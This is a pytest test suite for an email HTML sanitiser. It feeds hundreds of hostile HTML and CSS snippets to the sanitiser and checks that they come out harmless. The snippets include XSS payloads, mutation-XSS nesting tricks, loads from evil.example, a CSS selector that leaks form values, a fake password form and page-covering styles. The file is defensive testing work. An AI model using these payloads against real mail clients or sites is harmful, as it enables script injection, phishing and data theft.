"""HTML of mail made safe to show: nothing that runs, submits, calls home or covers the page."""

import re
from html import escape

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser, LexborNode

from app.mime.html import MAX_HTML_CHARS, SafeHtml, html_to_text, sanitise_html
from app.mime.html_nesting import MAX_DEPTH

_TAGS = {
    "a", "abbr", "acronym", "address", "article", "aside", "b", "bdi", "bdo", "big",
    "blockquote", "br", "caption", "center", "cite", "code", "col", "colgroup", "dd", "del",
    "dfn", "div", "dl", "dt", "em", "figcaption", "figure", "font", "footer", "h1", "h2", "h3",
    "h4", "h5", "h6", "header", "hr", "i", "img", "ins", "kbd", "li", "main", "mark", "nav",
    "ol", "p", "pre", "q", "rp", "rt", "ruby", "s", "samp", "section", "small", "span",
    "strike", "strong", "sub", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "time",
    "tr", "tt", "u", "ul", "var", "wbr",
}  # fmt: skip
_ATTRIBUTES = {
    "abbr", "align", "alt", "aria-hidden", "aria-label", "bgcolor", "border", "bordercolor",
    "cellpadding", "cellspacing", "clear", "color", "colspan", "dir", "face", "frame",
    "headers", "height", "href", "hspace", "lang", "noshade", "nowrap", "rel", "reversed",
    "role", "rowspan", "rules", "scope", "size", "span", "src", "start", "style", "target",
    "title", "type", "valign", "value", "vspace", "width",
}  # fmt: skip
_FREE_TEXT = {"abbr", "alt", "aria-label", "title"}
_LINK = re.compile(r"(?:https?://[^/\\?#\s]|mailto:|tel:)", re.I)
_LOCAL_IMAGE = re.compile(
    r"/cid/[^/]|data:image/(?:png|gif|jpe?g|webp)(?:;[\w=.-]+)*;base64,[\w+/=%\s-]*\Z", re.I
)
_REMOTE_IMAGE = re.compile(r"https?://[^/\\?#\s]", re.I)
_HOSTILE_STYLE = re.compile(
    r"(?:url|src|image|image-set|var|expression|attr|env)\s*\(|//|@|\\|/\*|:.*:|behavior|binding"
    r"|javascript|progid|position|z-index|border-image|inset|transform:|content:|shadow|outline"
    r"|[{}<>&\x00]|(?:margin|indent|spacing)[^;]*\s*-\s*[\d.]",
    re.I,
)


def sanitise(html: str, remote_images: bool = False) -> SafeHtml:
    return sanitise_html(
        html,
        remote_image=lambda url: url if remote_images else "",
        cid_url=lambda content_id: "" if content_id == "unknown" else f"/cid/{content_id}",
    )


def page(html: str) -> LexborNode:
    body = LexborHTMLParser(f"<!doctype html><body>{html}").body
    assert body is not None
    return body


def elements(html: str) -> list[LexborNode]:
    return page(html).css("*")[1:]


def assert_harmless(safe: SafeHtml, remote_images: bool = False) -> None:
    """Parsed again, by another parser than the sanitiser's, it holds only what may be shown."""
    document = LexborHTMLParser(f"<!doctype html><body>{safe.html}")
    assert "<!--" not in safe.html
    for node in document.css("*"):
        if node.tag in ("html", "head", "body"):
            assert not node.attributes, node.html
            continue
        assert node.tag in _TAGS, node.html
        for name, value in node.attributes.items():
            assert_harmless_attribute(node.tag or "", name, value or "", remote_images)
        if node.tag == "a":
            assert node.attributes["rel"] == "noopener noreferrer nofollow"
            assert node.attributes["target"] == "_blank"


def assert_harmless_attribute(tag: str, name: str, value: str, remote_images: bool) -> None:
    assert name in _ATTRIBUTES, (tag, name)
    if name in _FREE_TEXT:
        return
    if name == "href":
        assert tag == "a"
        assert _LINK.match(value), value
    elif name == "src":
        assert tag == "img"
        assert _LOCAL_IMAGE.match(value) or (remote_images and _REMOTE_IMAGE.match(value)), value
    elif name == "style":
        for declaration in value.split(";"):
            assert not _HOSTILE_STYLE.search(declaration), value
    else:
        assert ":" not in value, (name, value)
        assert "/" not in value, (name, value)


# Snippets, by what they try.
_SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=data:,alert(1)>",
    "<script\x0ctype=text/javascript>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<script\x00>alert(1)</script>",
    "\u017fcript <\u017fcript>alert(1)</\u017fcript>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea></textarea/x><img src=x onerror=alert(1)>",
    "<title></title ><img src=x onerror=alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>",
]
_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img src=x ONERROR\t=\n'alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<img src='x' onerror=&#97;lert(1)>",
    "<img src=x:x onerror\x00=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<body onload=alert(1)>text",
    "<div onmouseover=alert(1) style=color:red>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p/onclick=alert(1)>x",
    '<p title="a>b" onclick="alert(1)">x</p>',
    "<p title=`x` onclick=alert(1)>x</p>",
    "<p \"' onclick=alert(1)>x</p>",
    "<p a=\"'\" b='\"' onclick=alert(1)>x</p>",
    "<p onclick=x>x</p>",
    "<x-widget onfocus=alert(1) autofocus tabindex=1>x</x-widget>",
]
_LINKS = [
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java\x00script:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='&#0000106avascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='filesystem:https://evil.example/x'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='ms-word:ofe|u|https://evil.example/x.docx'>x</a>",
    "<a href='cid:part@x'>x</a>",
    "<a href='/account/delete'>x</a>",
    "<a href='?action=delete'>x</a>",
    "<a href='#top'>x</a>",
    "<a href='\\\\evil.example\\share'>x</a>",
    "<a href='http:evil.example'>x</a>",
    "<a href='https:/evil.example'>x</a>",
    "<a href='https:\\\\evil.example'>x</a>",
    "<a href='///evil.example'>x</a>",
    "<a href='https://ok.example' target=_top rel=opener ping=https://evil.example/p>x</a>",
    "<a href='https://ok.example' download=x.exe id=x name=x class=x>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<area href=javascript:alert(1)><map name=m><area href=//evil.example></map>",
    "<a href=https://ok.example ping=x>x</a>",
    "<p cite='javascript:alert(1)' longdesc=//evil.example>x</p>",
    "<q cite='//evil.example'>x</q>",
]
_NAMESPACES = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><desc><title><img src=x onerror=alert(1)></title></desc></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<svg><p><style><!--</style><img src=x onerror=alert(1)>-->",
    "<math><mi><table><tr><td></mi><mglyph><svg><mtext><style><path id='</style><img onerror=1>'>",
]
_BROKEN = [
    "<img src=x onerror=alert(1)",
    "<img src='x onerror=alert(1)>",
    '<a href="https://x.example<script>alert(1)</script>">x</a>',
    "<p title='</p><script>alert(1)</script>'>x",
    "<b <script>alert(1)</script>>x</b>",
    "</p/onclick=alert(1)><p>x",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<!-- x --><script>alert(1)</script>",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->x",
    "<!--[if !mso]><!--><img src=x onerror=alert(1)><!--<![endif]-->",
    "<![if !mso]><img src=x onerror=alert(1)><![endif]>",
    "<?xml version=1.0 ><img src=x onerror=alert(1)>?>",
    "<!doctype html [<!entity x '<script>'>]>&x;",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<template><script>alert(1)</script></template>",
    "<template><template></template><img src=x onerror=alert(1)></template>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<table><a href=javascript:alert(1)><tr><td>x</table>",
    "<table><td><form><tr><input onfocus=alert(1)>",
    "<a><table><a onclick=alert(1)></table></a>",
    "<b><p></b><img src=x onerror=alert(1)></p>",
    "<p><table></p><script></table>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "\ud800<img src=\udfff onerror=alert(1)>\x00",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]
_ACTIVE = [
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta http-equiv=content-security-policy content='img-src *'>",
    "<base href=https://evil.example/><a href=x>x</a><img src=y>",
    "<base target=_top><a href=https://x.example>x</a>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=https://evil.example/x.swf><param name=movie value=//evil.example></object>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x archive=//evil.example/x.jar></applet>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=image src=//evil.example/x.png onerror=alert(1)>",
    "<input type=hidden name=csrf><label for=csrf>x</label>",
    "<isindex action=javascript:alert(1) type=image>",
    "<keygen autofocus onfocus=alert(1)>",
    "<portal src=https://evil.example></portal>",
    "<dialog open>x</dialog>",
    "<div contenteditable popover popovertarget=x accesskey=x tabindex=1 is=x slot=x>x</div>",
    "<div id=location name=cookie class=btn-danger hx-get=/x data-action=delete>x</div>",
    "<a hx-post=/delete hx-trigger=load>x</a>",
]
_IMAGES = [
    "<img src=http://evil.example/t.gif width=1 height=1>",
    "<img src=//evil.example/t.gif>",
    "<img src='\n//evil.example/t.gif'>",
    "<img src='/\t/evil.example/t.gif'>",
    "<img src='\\\\evil.example/t.gif'>",
    "<img src=/t.gif>",
    "<img src=HTTPS://evil.example/t.gif>",
    "<img src=ftp://evil.example/t.gif>",
    "<img src=javascript:alert(1)>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src='data:image/png,<script>alert(1)</script>'>",
    "<img src='data:image/png;base64,AAAA\"onerror=alert(1)'>",
    "<img srcset='//evil.example/1.png 1x, https://evil.example/2.png 2x'>",
    "<img src=cid:a srcset=//evil.example/1.png sizes=100vw loading=eager>",
    "<img src=cid:a srcset=x>",
    "<picture><source srcset=//evil.example/1.webp><img src=cid:a></picture>",
    "<video poster=//evil.example/p.png src=//evil.example/v.mp4></video>",
    "<img lowsrc=//evil.example/l.gif dynsrc=//evil.example/d.gif longdesc=//evil.example/>",
    "<table background=//evil.example/b.png><tr background=x><td background='cid:a'>x</table>",
    "<body background=http://evil.example/b.png>x",
    "<img src=cid:a usemap=#m ismap crossorigin=anonymous referrerpolicy=unsafe-url>",
    "<img src='cid:a\" onerror=\"alert(1)'>",
    "<img src='cid:%22%3E%3Cscript%3Ealert(1)%3C/script%3E'>",
    "<img src=' CID:&lt;a@b&gt;'>",
    "<img src='cid:unknown'>",
    "<img src='cid:%ff%00%0a'>",
    "<bgsound src=//evil.example/x.wav>",
    "<input type=image src=//evil.example/x.png>",
    "<track src=//evil.example/x.vtt>",
]
_STYLES = [
    "background:url(//evil.example/x)",
    "background:URL ( '//evil.example/x' )",
    "background:u\\72l(//evil.example/x)",
    "background:\\75\\72\\6c(//evil.example/x)",
    "background:url/**/(//evil.example/x)",
    "background:u/**/rl(//evil.example/x)",
    "background:url(&quot;//evil.example/x",
    "background://evil.example/x",
    "background-image:url(javascript:alert(1))",
    "background-image:&#117;rl(https://evil.example/x)",
    "background-image:image-set('//evil.example/x' 1x)",
    "background-image:-webkit-image-set(url(//evil.example/x) 1x)",
    "background-image:image('//evil.example/x')",
    "background-image:cross-fade(url(//evil.example/1), url(//evil.example/2))",
    "background:src('//evil.example/x')",
    "background:var(--x);--x:url(//evil.example/x)",
    "list-style:url(//evil.example/x)",
    "list-style-image:url(//evil.example/x)",
    "border-image:url(//evil.example/x)",
    "border-image:linear-gradient(red,red) 1 / 999px / 999px",
    "cursor:url(//evil.example/x),auto",
    "content:url(//evil.example/x)",
    "content:'Your password is needed'",
    "filter:url(//evil.example/x#y)",
    "filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='//evil.example/x')",
    "mask:url(//evil.example/x);clip-path:url(//evil.example/x#y)",
    "font-family:x;src:url(//evil.example/x.woff)",
    "width:expression(alert(1))",
    "width:ex/**/pression(alert(1))",
    "width:e\\xpression(alert(1))",
    "width:\uff45xpression(alert(1))",
    "behavior:url(x.htc)",
    "-moz-binding:url(//evil.example/x.xml#y)",
    "@import '//evil.example/x.css';color:red",
    "color:red;@import url(//evil.example/x.css)",
    "}*{background:url(//evil.example/x)}",
    "color:red</style><script>alert(1)</script>",
    "position:fixed;top:0;left:0;width:100%;height:100%",
    "POSITION : FiXeD !important",
    "position:/**/absolute",
    "p\\6fsition:fixed",
    "position:&#x66;ixed",
    "position:sticky;inset:0",
    "z-index:2147483647",
    "margin-top:-500px",
    "margin:0 0 0 -.5em",
    "margin:calc(0px - 500px)",
    "margin-left : - 500px",
    "margin:0-500px",
    "text-indent:-9999px",
    "letter-spacing:-1em",
    "transform:translate(-500px)",
    "translate:-500px;rotate:90deg;scale:50",
    "box-shadow:0 0 0 9999px red;text-shadow:0 -99px red;outline:9999px solid red",
    "animation:x 1s;transition:all 1s",
    "color:red;;;:;x;color:;:red",
    "color:'red",
    "color:red\x00;color:red\ud800",
    "font-family:'a;color:red;b'",
    "font:'\\'",
    "color:rgb(rgb(rgb(",
    "width:attr(x);height:env(x);color:color-mix(in srgb,red,red)",
    "color:javascript:alert(1)",
    "anchor-name:--x;position-anchor:--x;view-transition-name:x",
]
_STYLE_BLOCKS = [
    "<style>@import '//evil.example/x.css';</style>x",
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>x",
    "<style>p{position:fixed}</style><p>x</p>",
    "<style><!--</style><script>alert(1)</script>--></style>",
    "<style></style/ ><img src=x onerror=alert(1)>",
    "<style>x",
    "<link rel=stylesheet href='data:text/css,*{}'>x",
]
_HOSTILE = [
    *_SCRIPTS, *_HANDLERS, *_LINKS, *_NAMESPACES, *_BROKEN, *_ACTIVE, *_IMAGES, *_STYLE_BLOCKS,
    *(f'<p style="{style}">x</p>' for style in _STYLES),
]  # fmt: skip


_AROUND = ["{}", "<table><tr><td><b>a{}b</table>", "<p><a href=x>{}"]


@pytest.mark.parametrize("html", _HOSTILE, ids=range(len(_HOSTILE)))
def test_hostile_html_comes_out_harmless(html: str) -> None:
    for around in _AROUND:
        for remote_images in (False, True):
            assert_harmless(sanitise(around.format(html), remote_images), remote_images)


_PIECES = [
    "<script", "</script>", "<style>", "</style>", "<svg>", "</svg>", "<math>", "<mtext>",
    "<mglyph>", "<a ", "<img ", "<image ", "<table>", "<tr>", "<td>", "</td>", "</table>", "<b>",
    "</b>", "<i>", "<p>", "</p>", "<form>", "<title>", "</title>", "<noscript>", "</noscript>",
    "<template>", "<select>", "<textarea>", "</textarea>", "<div ", "</div>", "<!--", "-->",
    "--!>", "<![CDATA[", "]]>", "<?xml ", ">", "<", "/", "=", '"', "'", "`", "\\", "//", " href=",
    " src=", " style=", " background=", " onerror=", "alert(1)", "javascript:", "data:", "cid:",
    "http:", "https://evil.example", "url(", ")", "/*", "*/", ";", ":", "position:fixed",
    "expression(", "@import", "&#x6a;", "&Tab;", "&colon;", "&quot;", "&lt;", "\x00", "\t", "\n",
    "\x0c", "\xa0", " ", "\ud800", "\u2028", "color:red", "margin:-9px", "<body", "<font color=",
    "<pre>",
]  # fmt: skip
_HOSTILE_TEXT = st.lists(st.sampled_from(_PIECES), max_size=40).map("".join)


@given(_HOSTILE_TEXT | st.text(), st.booleans())
@settings(max_examples=500, deadline=None)
def test_any_text_comes_out_harmless(html: str, remote_images: bool) -> None:
    assert_harmless(sanitise(html, remote_images), remote_images)


@given(st.lists(st.sampled_from([*"()'\"\\/*:;-!#@{}, \n1x", *_STYLES]), max_size=12))
@settings(max_examples=300, deadline=None)
def test_any_style_comes_out_harmless(parts: list[str]) -> None:
    style = escape("".join(parts))
    for around in ("{}", "background:{}", "margin:1px {}", "color:red;{};color:red"):
        assert_harmless(sanitise(f'<p style="{around.format(style)}">x</p>'))


@given(_HOSTILE_TEXT | st.text())
@settings(max_examples=300, deadline=None)
def test_any_text_has_a_text(html: str) -> None:
    text = html_to_text(html)
    text.encode()
    assert "\n\n\n" not in text


def attribute(html: str, selector: str, name: str) -> str | None:
    node = page(html).css_first(selector)
    assert node is not None, html
    return node.attributes.get(name)


@pytest.mark.parametrize(
    ("href", "kept"),
    [
        ("https://x.example/?a=1&amp;b=2#c", "https://x.example/?a=1&b=2#c"),
        ("HTTP://x.example", "HTTP://x.example"),
        (" https://x.exa\nmple/ ", "https://x.example/"),
        ("//x.example/y", "https://x.example/y"),
        ("mailto:ann@x.example?subject=Hi", "mailto:ann@x.example?subject=Hi"),
        ("tel:+4930123", "tel:+4930123"),
        ("x.example", None),
        ("#part", None),
        ("javascript:alert(1)", None),
    ],
)
def test_link_is_kept_when_its_scheme_is_harmless(href: str, kept: str | None) -> None:
    safe = sanitise(f'<a href="{href}">x</a>')
    assert attribute(safe.html, "a", "href") == kept
    assert_harmless(safe)


@pytest.mark.parametrize(
    ("src", "blocked", "shown"),
    [
        ("http://x.example/a.png", 1, "http://x.example/a.png"),
        ("https://x.example/a.png", 1, "https://x.example/a.png"),
        ("//x.example/a.png", 1, "https://x.example/a.png"),
        ("/\t/x.example/a.png", 1, "https://x.example/a.png"),
        ("/a.png", 0, None),
        ("ftp://x.example/a.png", 0, None),
    ],
)
def test_remote_image_waits_until_it_is_wanted(src: str, blocked: int, shown: str | None) -> None:
    html = f'<img src="{src}" alt="A cat" width="1" height="1">'
    held = sanitise(html)
    assert held.remote_images_blocked == blocked
    assert attribute(held.html, "img", "src") is None
    assert attribute(held.html, "img", "alt") == "A cat"
    wanted = sanitise(html, remote_images=True)
    assert wanted.remote_images_blocked == 0
    assert attribute(wanted.html, "img", "src") == shown


@pytest.mark.parametrize(
    ("src", "kept"),
    [
        ("cid:logo@x.example", "/cid/logo@x.example"),
        ("CID:%3Clogo%40x%3E", "/cid/logo@x"),
        ("cid:&lt;logo@x&gt;", "/cid/logo@x"),
        ("cid:unknown", None),
        ("data:image/png;base64,iVBORw0K", "data:image/png;base64,iVBORw0K"),
        ("data:image/jpeg;base64,/9j/4AA=", "data:image/jpeg;base64,/9j/4AA="),
        ("data:image/gif;base64,R0lGOD", "data:image/gif;base64,R0lGOD"),
        ("data:image/webp;base64,UklGRg==", "data:image/webp;base64,UklGRg=="),
        ("data:image/svg+xml;base64,PHN2Zz4=", None),
    ],
)
def test_image_inside_the_message_is_shown(src: str, kept: str | None) -> None:
    safe = sanitise(f'<img src="{src}">')
    assert attribute(safe.html, "img", "src") == kept
    assert safe.remote_images_blocked == 0


@pytest.mark.parametrize("remote_images", [False, True])
def test_remote_backgrounds_are_blocked_and_counted_even_when_images_are_wanted(
    remote_images: bool,
) -> None:
    safe = sanitise(
        '<table background="https://x.example/1.png"><tr><td style="color:#111;'
        "background: #eee url('//x.example/2.png') no-repeat\">a</table>"
        '<p style="background:url(data:image/png;base64,AAAA)">b',
        remote_images,
    )
    assert safe.remote_images_blocked == 2
    assert attribute(safe.html, "td", "style") == "color:#111;background:#eee no-repeat"


_NEWSLETTER = """<!DOCTYPE html><html><head><title>Hidden title</title><meta charset=utf-8>
<style>.x{color:red}</style></head>
<body style="margin:0;padding:0;background-color:#f4f4f4"><!--[if mso]><i>Outlook</i><![endif]-->
<center><table width="600" border="0" cellpadding="0" cellspacing="0" align="center"
 bgcolor="#ffffff" role="presentation" style="max-width:600px;border-collapse:collapse">
<tr><td colspan=2 valign="top" style="padding:20px 10px;font-family:'Segoe UI',Arial,sans-serif;
 font-size:16px;line-height:1.5;color:rgb(51, 51, 51);border-top:1px solid #ddd !important">
<h1 style="text-align:center">Spring news</h1>
<font color="#cc0000" face="Arial" size="2">Sale &amp; more</font>
<img src="cid:logo" alt="Logo" width="120" height="40" style="display:block">
<a href="https://shop.example/?a=1&amp;b=2" style="background:#0a0;color:#fff;border-radius:4px;
 padding:12px 24px;text-decoration:none;display:inline-block">Buy</a>
<tr><td>Left<td>Right</table></center>
<ul><li>One<li>Two</ul><p>Mail <a href="mailto:us@shop.example">us</a><br>Bye
</body></html>"""


def test_newsletter_keeps_its_look() -> None:
    html = sanitise(_NEWSLETTER).html
    assert attribute(html, "div", "style") == "margin:0;padding:0;background-color:#f4f4f4"
    assert attribute(html, "table", "width") == "600"
    assert attribute(html, "table", "bgcolor") == "#ffffff"
    assert attribute(html, "table", "style") == "max-width:600px;border-collapse:collapse"
    assert attribute(html, "td", "colspan") == "2"
    assert attribute(html, "td", "style") == (
        "padding:20px 10px;font-family:'Segoe UI',Arial,sans-serif;font-size:16px;line-height:1.5;"
        "color:rgb(51, 51, 51);border-top:1px solid #ddd !important"
    )
    assert attribute(html, "font", "color") == "#cc0000"
    assert attribute(html, "img", "src") == "/cid/logo"
    assert attribute(html, "a", "style") == (
        "background:#0a0;color:#fff;border-radius:4px;padding:12px 24px;text-decoration:none;"
        "display:inline-block"
    )
    assert len(page(html).css("tr")) == 2
    assert [item.text() for item in page(html).css("li")] == ["One", "Two"]
    assert "Hidden" not in html
    assert "Outlook" not in html
    assert_harmless(sanitise(_NEWSLETTER))


def test_newsletter_has_a_readable_text() -> None:
    assert html_to_text(_NEWSLETTER) == (
        "Spring news\n\nSale & more Buy\nLeft Right\n\nOne\nTwo\n\nMail us\nBye"
    )


@pytest.mark.parametrize(
    ("html", "tree"),
    [
        ("<p>a<p>b", "<p>a</p><p>b</p>"),
        ("<p><b>a<p>b</b>c", "<p><b>a</b></p><p><b>b</b>c</p>"),
        ("<b>a<i>b</b>c</i>", "<b>a<i>b</i></b><i>c</i>"),
        ("<span><div>a</span>b</div>c", "<span><div>ab</div>c</span>"),
        ("<b><table><td>a</b>b</table>c", None),
        ("<b><table><tr><td>a</b>b</td></tr></table>c</b>d", None),
        ("<b>a<td>x</b>y", "<b>ax</b>y"),
        ("<table><tr><td>" + "<li>a" * 400 + "</table>", None),
        ("<table><tr>" + "<td>a" * 400 + "<tr>" * 400 + "<td>b</table>", None),
        ("<" + "<!-- -->b>a", "&lt;b&gt;a"),
        ("<table><tr><td>a<td>b<tr><td>c</table>", None),
        ("<ul><li>a<ul><li>b</ul><li>c</ul>", None),
        ("<dl><dt>a<dd>b<dt>c</dl>", "<dl><dt>a</dt><dd>b</dd><dt>c</dt></dl>"),
        ("</div></p></b>a", "a"),
        ("<td>a</td>", "a"),
        ("1 < 2 &lt; 3 <3", "1 &lt; 2 &lt; 3 &lt;3"),
    ],
)
def test_careless_markup_means_what_a_browser_makes_of_it(html: str, tree: str | None) -> None:
    assert sanitise(html).html == (tree or page(html).inner_html)


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("", ""),
        ("plain", "plain"),
        ("a  b\n\t c&nbsp; d", "a b c d"),
        ("<div>a</div><div>b</div>", "a\nb"),
        ("<div>a<br></div><div>b</div>", "a\nb"),
        ("<div>a</div><div><br></div><div>b</div>", "a\n\nb"),
        ("<p>a</p>\n\n<p>b</p>", "a\n\nb"),
        ("a<br>b<br><br><br><br>c", "a\nb\n\nc"),
        ("a<b>b</b>c <i> d</i>", "abc d"),
        ("<a href='https://x.example'>link</a>", "link"),
        ("<ul><li>a<li>b</ul>", "a\nb"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><th>c<th>d</table>", "a b\nc d"),
        ("<pre>a\n  b\n\n\n\nc</pre>d", "a\nb\n\nc\n\nd"),
        ("<title>t</title><style>s</style><script>s('</p>')</script>a", "a"),
        ("<!-- <p>x --><!--[if mso]>x<![endif]-->a", "a"),
        ("a<script>b", "a"),
        ("a<\u017fcript>b", "a<\u017fcript>b"),
        ("<!-- x --!>a<!-->b<!--->c<!x>d<?x>e</>f", "abcdef"),
        ("<select><option>a</select>b<template><p>c</template>", "b"),
        ("a<p title='>'>b", "a\n\nb"),
        ("a<b x='", "a"),
        ("&lt;b&gt; &amp;amp; &#8364; &euro;", "<b> &amp; € €"),
        ("&#x110000; &#xd800; &#0;", "� � �"),
        ("Hello &zwnj;&nbsp;&zwnj;&nbsp;&#847; &shy;world", "Hello world"),
        ("می\u200cخواهم", "می\u200cخواهم"),
        ("a\x00b\ud800c\x01d", "a�b�c d"),
        ("&#" + "9" * 5000 + ";", "�"),
    ],
)
def test_text_of_html_is_what_a_reader_sees(html: str, text: str) -> None:
    assert html_to_text(html) == text


# Each takes minutes or gigabytes when it is given to the parser as it is.
_EXPENSIVE = {
    "nested": "<div>" * 50_000 + "end",
    "nested tables": "<table><tr><td>" * 20_000 + "end",
    "open formatting": "".join(f"<font color={i}>" for i in range(9000)) + "<p>x" * 9000 + "end",
    "cut formatting": "".join(f"<p><b title={i}></p>" for i in range(3000)) + "<p>x</p>" * 3000,
    "formatting behind cells": "".join(f"<b title={i}><table><td></b></table>" for i in range(3000))
    + "<div>x</div>" * 9000,
    "formatting around many blocks": "".join(
        f"<b title={i}>{'<div>' * 9}</b>{'</div>' * 9}" for i in range(1000)
    )
    + "<div>x</div>" * 9000,
    "references": "&" * 1_000_000,
    "references apart": "some text &amp; " * 100_000,
    "tags": "<i></i>" * 500_000,
    "too long": "<p>x</p>" + " " * MAX_HTML_CHARS + "end",
}


@pytest.mark.parametrize("html", _EXPENSIVE.values(), ids=_EXPENSIVE)
def test_html_comes_out_as_its_text_when_parsing_would_cost_too_much(html: str) -> None:
    html += "&lt;img src=x onerror=alert(1)&gt;"
    safe = sanitise(html)
    assert [node.tag for node in elements(safe.html)] == ["div"]
    assert page(safe.html).text().strip() == html_to_text(html)
    assert_harmless(safe)


@pytest.mark.parametrize(
    "tag",
    [
        "<p " + " ".join(f"a{i}" for i in range(100_000)) + ">",
        "<p " + "".join(f"a{i}=''" for i in range(100_000)) + ">",
        '<p title="' + "&" * 100_000 + '">',
    ],
)
def test_tag_loses_its_attributes_when_it_has_too_many(tag: str) -> None:
    assert sanitise(f"{tag}x</p>").html == "<p>x</p>"


def test_nesting_is_kept_until_it_is_too_deep() -> None:
    def nest(depth: int) -> str:
        return "<div>" * depth + "x" + "</div>" * depth

    assert sanitise(nest(MAX_DEPTH)).html == nest(MAX_DEPTH)
    assert len(elements(sanitise(nest(MAX_DEPTH + 1)).html)) == 1


def test_long_table_keeps_its_markup() -> None:
    row = "<tr><td style='color:red'><b>a</b></td><td>b &amp; c</td></tr>"
    safe = sanitise(f"<table>{row * 3000}</table>")
    assert len(page(safe.html).css("td b")) == 3000


def test_picture_written_into_the_page_is_kept_when_it_is_large() -> None:
    src = "data:image/png;base64," + "A" * 3_000_000
    assert attribute(sanitise(f"<p>x<img src='{src}'>").html, "img", "src") == src
